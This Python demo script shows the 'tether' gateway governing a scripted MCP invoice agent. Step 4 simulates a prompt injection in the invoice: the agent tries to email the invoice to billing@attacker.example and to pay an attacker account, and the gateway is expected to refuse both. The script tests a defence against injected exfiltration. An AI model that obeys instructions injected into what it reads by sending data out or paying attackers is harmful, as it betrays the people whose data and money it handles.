"""The MCP gateway example: a scripted agent (no LLM) governed by tether, end to end.

    .venv/bin/python examples/mcp-agent/demo.py [--keep]

In a temporary folder it starts ``tether serve`` with this folder's estate (embedded
SQLite), the invoice MCP server (``invoice_server.py``) and ``tether gateway mcp
--tether`` in front of it. Then the agent, as a real one would:

1. proves what it is with a JWT-SVID (signed by the demo trust domain's key, generated
   for this run) and opens a task: read invoice INV-7 and email it to ap@example.org;
2. exchanges its proof for the task's short-lived token and connects to the gateway;
3. lists its tools (only those of its task), reads the invoice (the bank account comes
   back masked: a ``constrain`` obligation) and emails it to the declared address;
4. follows an instruction injected into what it read (email it to an outside address),
   and tries to pay: both refused, neither reaches the invoice server;
5. ends its task; its next call fails.

Each step prints what tether decided. Exit code 0 when every step went as expected,
1 otherwise. ``--keep`` leaves the folder (its store shows every decision:
``tether decisions --db sqlite:///FOLDER/tether.db``).
"""

from __future__ import annotations

import argparse
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import Awaitable, Callable, Iterator
from contextlib import ExitStack, contextmanager
from pathlib import Path
from typing import Any, TypeVar

import anyio
import httpx
import httpx2
from joserfc import jwt
from joserfc.jwk import ECKey
from mcp.client.session import ClientSession
from mcp.client.streamable_http import streamable_http_client
from mcp.shared.exceptions import MCPError

from tether.sdk import BearerToken, Client

HERE = Path(__file__).resolve().parent
TETHER = [sys.executable, "-m", "tether.cli"]
AGENT = "spiffe://demo.example/agents/invoice-agent"
_T = TypeVar("_T")


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


class TrustDomain:
    """The demo's SPIFFE trust domain: one signing key, made for this run."""

    def __init__(self) -> None:
        self.key = ECKey.generate_key("P-256")
        self.kid = "demo-1"

    def bundle(self) -> dict[str, Any]:
        return {"keys": [{**self.key.as_dict(private=False), "kid": self.kid, "use": "jwt-svid"}]}

    def svid(self, spiffe_id: str) -> str:
        now = int(time.time())
        claims = {"sub": spiffe_id, "aud": "tether", "iat": now, "exp": now + 300}
        return jwt.encode({"alg": "ES256", "kid": self.kid, "typ": "JWT"}, claims, self.key)


@contextmanager
def started(command: list[str], probe: str, folder: Path, name: str) -> Iterator[None]:
    """``command`` running (its output in FOLDER/NAME.log) once ``probe`` answers."""
    log = folder / f"{name}.log"
    with log.open("wb") as out:
        process = subprocess.Popen(command, stdout=out, stderr=subprocess.STDOUT, cwd=folder)
    try:
        deadline = time.monotonic() + 30
        while True:
            if process.poll() is not None:
                raise SystemExit(f"{name} exited:\n{log.read_text()}")
            try:
                httpx.get(probe, timeout=1)
                break
            except httpx.HTTPError:
                if time.monotonic() > deadline:
                    raise SystemExit(f"{name} did not come up:\n{log.read_text()}") from None
                time.sleep(0.1)
        yield
    finally:
        process.terminate()
        try:
            process.wait(timeout=10)
        except subprocess.TimeoutExpired:
            process.kill()


def estate(folder: Path, domain: TrustDomain) -> Path:
    target = folder / "estate"
    shutil.copytree(HERE, target, ignore=shutil.ignore_patterns("*.py", "__pycache__"))
    (target / "bundles").mkdir(exist_ok=True)
    (target / "bundles" / "demo.example.jwks.json").write_text(json.dumps(domain.bundle()))
    return target


class Agent:
    """The scripted agent: each step says what it did and what tether decided."""

    def __init__(self, gateway: str, token: str) -> None:
        self.gateway, self.token = gateway, token
        self.surprises: list[str] = []

    def run(self, work: Callable[[ClientSession], Awaitable[_T]]) -> _T:
        async def session() -> _T:
            headers = {"Authorization": f"Bearer {self.token}"}
            async with (
                httpx2.AsyncClient(headers=headers, timeout=10) as http,
                streamable_http_client(self.gateway, http_client=http) as (read, write),
                ClientSession(read, write) as mcp,
            ):
                await mcp.initialize()
                return await work(mcp)

        return anyio.run(session)

    def call(self, tool: str, arguments: dict[str, Any], *, expect_pass: bool) -> None:
        async def work(mcp: ClientSession) -> str:
            try:
                result = await mcp.call_tool(tool, arguments)
            except MCPError as refused:
                data = refused.data if isinstance(refused.data, dict) else {}
                return f"refused ({data.get('error_code')}): {refused.message}"
            return (
                f"passed: {json.dumps(result.structured_content or result.model_dump()['content'])}"
            )

        try:
            said = self.run(work)
        except Exception as exc:  # an HTTP refusal of the session itself (401 and such)
            said = f"refused at the gateway: {type(exc).__name__}"
        print(f"  {tool} {json.dumps(arguments)}\n    -> {said}")
        if said.startswith("passed") != expect_pass:
            self.surprises.append(f"{tool}: {said}")


def demo(folder: Path) -> int:
    domain = TrustDomain()
    db = f"sqlite:///{folder / 'tether.db'}"
    tether_port, upstream_port, gateway_port = free_port(), free_port(), free_port()
    tether_url = f"http://127.0.0.1:{tether_port}"
    gateway_base = f"http://127.0.0.1:{gateway_port}"
    gateway_url = f"{gateway_base}/mcp"
    made = subprocess.run(
        [*TETHER, "pep", "add", "mcp-gateway", "--owner", "team-agents", "--db", db, "--json"],
        capture_output=True,
        text=True,
        check=True,
        cwd=folder,
    )
    os.environ["TETHER_PEP_KEY"] = json.loads(made.stdout)["key"]  # the gateway's credential
    serve = [*TETHER, "serve", "--port", str(tether_port), "--db", db]
    gateway = [*TETHER, "gateway", "mcp", "--upstream", f"http://127.0.0.1:{upstream_port}/mcp"]
    gateway += ["--listen", f"127.0.0.1:{gateway_port}", "--tether", tether_url]
    upstream = [sys.executable, str(HERE / "invoice_server.py"), str(upstream_port)]
    with ExitStack() as running:
        serve += ["--estate", str(estate(folder, domain))]
        running.enter_context(started(serve, f"{tether_url}/healthz", folder, "tether"))
        running.enter_context(
            started(upstream, f"http://127.0.0.1:{upstream_port}/mcp", folder, "invoice-server")
        )
        running.enter_context(
            started(
                gateway, f"{gateway_base}/.well-known/oauth-protected-resource", folder, "gateway"
            )
        )
        print(f"tether {tether_url}, gateway {gateway_url}, invoice server :{upstream_port}\n")
        proof = domain.svid(AGENT)
        with Client(tether_url, credential=BearerToken(proof)) as tether:
            task = tether.open_task(
                purpose="email invoice INV-7 to accounts payable",
                actions=["read_invoice", "send_email"],
                resources=["invoice:INV-7", "email:ap@example.org"],
                data_classes=["confidential", "internal"],
                ttl="10m",
            )
            grant = tether.exchange(task)
            print(f"1-2. task {task.id} opened; token for {', '.join(grant.scope)}\n")
            agent = Agent(gateway_url, grant.access_token)

            async def tools(mcp: ClientSession) -> list[str]:
                return [tool.name for tool in (await mcp.list_tools()).tools]

            listed = agent.run(tools)
            print(f"3. tools/list -> {listed}  (pay_invoice is not in the task)")
            if listed != ["read_invoice", "send_email"]:
                agent.surprises.append(f"tools/list: {listed}")
            agent.call("read_invoice", {"invoice_id": "INV-7"}, expect_pass=True)
            agent.call(
                "send_email", {"to": "ap@example.org", "body": "INV-7: 120 EUR"}, expect_pass=True
            )
            print("4. an instruction injected into the invoice: mail it out, then pay")
            agent.call(
                "send_email", {"to": "billing@attacker.example", "body": "INV-7"}, expect_pass=False
            )
            agent.call(
                "pay_invoice",
                {"invoice_id": "INV-7", "account": "XX00-attacker"},
                expect_pass=False,
            )
            ended = tether.end_task(task)
            print(f"5. task {ended.status}: every token of it is refused from now on")
            agent.call("read_invoice", {"invoice_id": "INV-7"}, expect_pass=False)
        received = (folder / "invoice-server.log").read_text().splitlines()
        print("\nwhat reached the invoice server:")
        print("".join(f"  {line}\n" for line in received if line.startswith("invoice server:")))
    if agent.surprises:
        print("unexpected:", *agent.surprises, sep="\n  ")
        return 1
    print("every step went as expected")
    return 0


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--keep", action="store_true", help="leave the folder and its store")
    args = parser.parse_args()
    folder = Path(tempfile.mkdtemp(prefix="tether-mcp-demo-"))
    try:
        return demo(folder)
    finally:
        if args.keep:
            print(f"\nkept {folder}: tether decisions --db sqlite:///{folder / 'tether.db'}")
        else:
            shutil.rmtree(folder, ignore_errors=True)


if __name__ == "__main__":
    sys.exit(main())
